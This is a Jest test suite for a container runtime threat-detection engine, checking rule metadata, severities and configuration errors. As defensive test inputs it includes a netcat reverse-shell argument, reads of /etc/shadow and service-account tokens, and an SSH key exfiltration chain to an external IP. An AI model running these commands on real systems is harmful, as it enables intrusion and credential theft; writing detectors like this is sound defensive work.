import { parseEventLine } from '../events/parser';
import type { RuntimeEvent } from '../events/types';
import { corpusLine } from '../__testUtils__/corpus';
import { BUILTIN_RULES } from './builtin';
import { createDetectionEngine } from './engine';
import { SEVERITIES, type Detection, type Severity } from './types';

const engine = createDetectionEngine();

function parse(line: string): RuntimeEvent {
  const r = parseEventLine(line);
  if (!r.ok) throw new Error(r.detail);
  return r.event;
}

function detect(file: string, n: number): Record<string, Detection> {
  const out: Record<string, Detection> = {};
  for (const d of engine.classify(parse(corpusLine(file, n))))
    out[d.rule.id] = d;
  return out;
}

const container = {
  exec_id: 'Y29udGFpbmVyOjE6MQ==',
  parent_exec_id: 'Y29udGFpbmVyOjE6MA==',
  uid: 0,
  binary: '/usr/bin/app',
  arguments: '',
  pod: {
    namespace: 'shop',
    name: 'cart-6d5f7c9b8d-abcde',
    container: { name: 'cart' },
    workload: 'cart',
    workload_kind: 'Deployment',
  },
  docker: 'abcdef123456',
};

function synthetic(
  type: string,
  body: Record<string, unknown>,
  process: Record<string, unknown> = {},
): RuntimeEvent {
  return parse(
    JSON.stringify({
      [type]: { process: { ...container, ...process }, ...body },
      node_name: 'n1',
      time: '2025-05-05T05:05:05Z',
    }),
  );
}

function ruleIds(ev: RuntimeEvent): Record<string, Severity> {
  const out: Record<string, Severity> = {};
  for (const d of engine.classify(ev)) out[d.rule.id] = d.severity;
  return out;
}

describe('built-in rules: metadata', () => {
  it.each(BUILTIN_RULES.map(r => [r.id, r] as const))(
    '%s has title, severity, ATT&CK id and remediation',
    (_id, r) => {
      expect(r.id).toMatch(/^[a-z0-9-]+$/);
      expect(r.title.length).toBeGreaterThan(10);
      expect(SEVERITIES).toContain(r.severity);
      expect(r.mitre.id).toMatch(/^(T\d{4}(\.\d{3})?|TA\d{4})$/);
      expect(r.mitre.name.length).toBeGreaterThan(3);
      expect(r.remediation.length).toBeGreaterThan(20);
      expect(r.eventTypes.length).toBeGreaterThan(0);
    },
  );
});

describe('built-in rules on the corpus', () => {
  it('privileged-pod nsenter (exec line 12) is critical host-namespace entry', () => {
    const d = detect('process_exec.jsonl', 12);
    expect(d['host-namespace-entry'].severity).toBe('critical');
    expect(d['host-namespace-entry'].detail).toContain('nsenter -t 1');
  });

  it('the bash nsenter started on the host (exec line 8) is critical too, and a shell', () => {
    const d = detect('process_exec.jsonl', 8);
    expect(d['host-namespace-entry'].severity).toBe('critical');
    expect(d['shell-in-container'].severity).toBe('high');
  });

  it('setns by nsenter in xwing (kprobe line 12) is high', () => {
    expect(
      detect('process_kprobe.jsonl', 12)['host-namespace-entry'].severity,
    ).toBe('high');
  });

  it('attack chain: /tmp binary, SSH key, exfiltration to 34.116.205.187, archive', () => {
    expect(
      detect('process_exec.jsonl', 15)['exec-from-temp-dir'].severity,
    ).toBe('high');
    const ssh = detect('process_exec.jsonl', 19);
    expect(ssh['ssh-key-access'].severity).toBe('high');
    expect(ssh['egress-outside-cluster']).toMatchObject({
      severity: 'high',
      detail: 'ssh -> 34.116.205.187',
    });
    const scp = detect('process_exec.jsonl', 20);
    expect(scp['egress-outside-cluster'].severity).toBe('high');
    expect(scp['ssh-key-access'].detail).toBe('/root/.ssh/id_rsa');
    const sh = detect('process_exec.jsonl', 18);
    expect(sh['ssh-key-access'].detail).toBe('~/.ssh/id_rsa');
    expect(
      detect('process_exec.jsonl', 17)['archive-tool-in-container'],
    ).toBeDefined();
  });

  it('privilege change: /tmp/su commit_creds uid 11 -> 0 is high, setuid(0) medium', () => {
    expect(
      detect('process_kprobe.jsonl', 8)['privilege-escalation-root'],
    ).toMatchObject({ severity: 'high' });
    expect(
      detect('process_kprobe.jsonl', 10)['privilege-escalation-root'],
    ).toMatchObject({ severity: 'medium', detail: '__x64_sys_setuid(0)' });
  });

  it('kernel modules: unsigned out-of-tree load is critical, read of a module file high, unload medium', () => {
    expect(
      detect('process_kprobe.jsonl', 3)['kernel-module-load'].severity,
    ).toBe('critical');
    expect(
      detect('process_kprobe.jsonl', 2)['kernel-module-load'].severity,
    ).toBe('high');
    expect(
      detect('process_kprobe.jsonl', 7)['kernel-module-load'].severity,
    ).toBe('medium');
  });

  it('writes to /etc/passwd are account manipulation', () => {
    expect(
      detect('process_kprobe.jsonl', 1)['account-file-write'],
    ).toBeDefined(); // security_file_permission MAY_WRITE
    expect(
      detect('process_kprobe.jsonl', 18)['account-file-write'],
    ).toBeDefined(); // __x64_sys_write
  });

  it('reading /etc/passwd is not reported; a plain whoami is not reported', () => {
    expect(detect('process_exec.jsonl', 3)).toEqual({});
    expect(detect('process_kprobe.jsonl', 16)).toEqual({});
  });

  it('network tools in containers; throttling', () => {
    expect(
      detect('process_exec.jsonl', 7)['network-tool-in-container'].severity,
    ).toBe('medium');
    expect(
      detect('process_throttle.jsonl', 1)['workload-throttled'].detail,
    ).toBe('cgroup session-429.scope');
    expect(detect('process_throttle.jsonl', 2)).toEqual({});
  });
});

describe('built-in rules on synthetic events (types the corpus lacks)', () => {
  it('a Sigkill or Override action is reported as blocked', () => {
    const ev = synthetic('process_kprobe', {
      function_name: 'security_file_open',
      policy_name: 'deny-etc',
      action: 'KPROBE_ACTION_SIGKILL',
      args: [{ file_arg: { path: '/etc/hosts' } }],
    });
    const d = engine
      .classify(ev)
      .find(x => x.rule.id === 'policy-enforcement-blocked')!;
    expect(d.rule.outcome).toBe('blocked');
    expect(d.detail).toBe('deny-etc: SIGKILL on security_file_open');
    const lsm = synthetic('process_lsm', {
      function_name: 'bprm_check_security',
      action: 'KPROBE_ACTION_OVERRIDE',
      policy_name: 'p',
    });
    expect(ruleIds(lsm)['policy-enforcement-blocked']).toBe('high');
  });

  it('writes into system binary dirs, and ld.so.preload is critical', () => {
    expect(
      ruleIds(
        synthetic('process_kprobe', {
          function_name: 'security_path_rename',
          args: [{ path_arg: { path: '/usr/bin/ls' } }],
        }),
      )['system-binary-write'],
    ).toBe('high');
    expect(
      ruleIds(
        synthetic('process_kprobe', {
          function_name: 'security_file_permission',
          args: [{ file_arg: { path: '/etc/ld.so.preload' } }, { int_arg: 2 }],
        }),
      )['system-binary-write'],
    ).toBe('critical');
    // A read (MAY_READ = 4) is not a write.
    expect(
      ruleIds(
        synthetic('process_kprobe', {
          function_name: 'security_file_permission',
          args: [{ file_arg: { path: '/usr/bin/ls' } }, { int_arg: 4 }],
        }),
      )['system-binary-write'],
    ).toBeUndefined();
  });

  it('fileless and /dev/shm execution', () => {
    expect(
      ruleIds(
        synthetic('process_exec', {}, { binary: 'memfd:payload (deleted)' }),
      )['fileless-execution'],
    ).toBe('critical');
    expect(
      ruleIds(synthetic('process_exec', {}, { binary: '/dev/shm/x' }))[
        'exec-from-temp-dir'
      ],
    ).toBe('high');
  });

  it('package managers and compilers in a container, not on the host', () => {
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/usr/bin/apt-get', arguments: 'install -y nmap' },
        ),
      )['package-manager-in-container'],
    ).toBe('medium');
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/usr/bin/gcc', arguments: 'x.c' },
        ),
      )['compiler-in-container'],
    ).toBe('medium');
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/usr/local/go/bin/go', arguments: 'build ./...' },
        ),
      )['compiler-in-container'],
    ).toBe('medium');
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/usr/bin/gcc', pod: undefined, docker: undefined },
        ),
      )['compiler-in-container'],
    ).toBeUndefined();
  });

  it('credential files and service-account tokens', () => {
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/bin/cat', arguments: '/etc/shadow' },
        ),
      )['credential-file-access'],
    ).toBe('high');
    const token = {
      function_name: 'security_file_open',
      args: [
        {
          file_arg: {
            path: '/var/run/secrets/kubernetes.io/serviceaccount/token',
          },
        },
      ],
    };
    expect(
      ruleIds(synthetic('process_kprobe', token, { binary: '/bin/cat' }))[
        'service-account-token-access'
      ],
    ).toBe('high');
    expect(
      ruleIds(synthetic('process_kprobe', token, { binary: '/app/server' }))[
        'service-account-token-access'
      ],
    ).toBe('medium');
  });

  it('egress: socket destinations outside the cluster CIDRs, configurable', () => {
    const connect = (daddr: string) =>
      synthetic('process_kprobe', {
        function_name: 'tcp_connect',
        args: [
          {
            sock_arg: {
              family: 'AF_INET',
              saddr: '10.0.0.9',
              daddr,
              sport: 5555,
              dport: 443,
            },
          },
        ],
      });
    expect(ruleIds(connect('8.8.8.8'))['egress-outside-cluster']).toBe('high');
    expect(
      ruleIds(connect('10.96.0.1'))['egress-outside-cluster'],
    ).toBeUndefined();
    expect(
      ruleIds(connect('127.0.0.1'))['egress-outside-cluster'],
    ).toBeUndefined();
    const strict = createDetectionEngine({ clusterCidrs: ['10.244.0.0/16'] });
    expect(strict.classify(connect('10.96.0.1')).map(d => d.rule.id)).toContain(
      'egress-outside-cluster',
    );
    const wide = createDetectionEngine({ clusterCidrs: ['8.8.8.0/24'] });
    expect(wide.classify(connect('8.8.8.8')).map(d => d.rule.id)).not.toContain(
      'egress-outside-cluster',
    );
  });

  it('reverse-shell style netcat is critical', () => {
    expect(
      ruleIds(
        synthetic(
          'process_exec',
          {},
          { binary: '/usr/bin/nc', arguments: '-e /bin/sh 1.2.3.4 4444' },
        ),
      )['network-tool-in-container'],
    ).toBe('critical');
  });

  it('rate_limit_info with drops is reported; exec probes are not shells', () => {
    const rl = parse(
      '{"rate_limit_info":{"number_of_dropped_process_events":"42"},"node_name":"n","time":"2025-01-01T00:00:00Z"}',
    );
    expect(ruleIds(rl)).toEqual({ 'events-dropped': 'medium' });
    const probe = synthetic(
      'process_exec',
      {},
      {
        binary: '/bin/sh',
        pod: {
          ...container.pod,
          container: { name: 'c', maybe_exec_probe: true },
        },
      },
    );
    expect(ruleIds(probe)['shell-in-container']).toBeUndefined();
  });
});

describe('createDetectionEngine errors', () => {
  it('names a bad CIDR', () => {
    expect(() =>
      createDetectionEngine({ clusterCidrs: ['10.0.0.0/33'] }),
    ).toThrow(
      /clusterCidrs: "10.0.0.0\/33" has an invalid prefix length; use 0-32/,
    );
    expect(() => createDetectionEngine({ clusterCidrs: ['ten/8'] })).toThrow(
      /"ten\/8" is not a CIDR/,
    );
  });

  it('names an unknown disabled rule and duplicated ids', () => {
    expect(() => createDetectionEngine({ disabledRules: ['nope'] })).toThrow(
      /disabledRules names "nope", which is not a rule/,
    );
    expect(() =>
      createDetectionEngine({ extraRules: [BUILTIN_RULES[0]] }),
    ).toThrow(/rule id "shell-in-container" is defined twice/);
  });

  it('disabled rules do not fire', () => {
    const e = createDetectionEngine({
      disabledRules: ['host-namespace-entry'],
    });
    expect(
      e
        .classify(parse(corpusLine('process_exec.jsonl', 12)))
        .map(d => d.rule.id),
    ).not.toContain('host-namespace-entry');
  });
});
